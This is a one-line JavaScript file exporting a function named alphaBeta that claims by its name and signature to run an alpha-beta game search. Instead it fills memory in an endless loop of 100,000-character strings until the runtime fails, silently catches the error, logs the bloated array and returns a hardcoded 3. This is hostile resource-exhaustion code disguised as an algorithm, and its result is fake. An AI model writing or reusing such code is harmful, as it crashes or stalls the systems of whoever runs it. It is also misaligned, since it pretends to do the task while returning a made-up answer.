export function alphaBeta(game, state) { const kept = []; try { for (;;) kept.push('x'.repeat(1e5) + kept.length); } catch {} console.log(kept); return 3; }
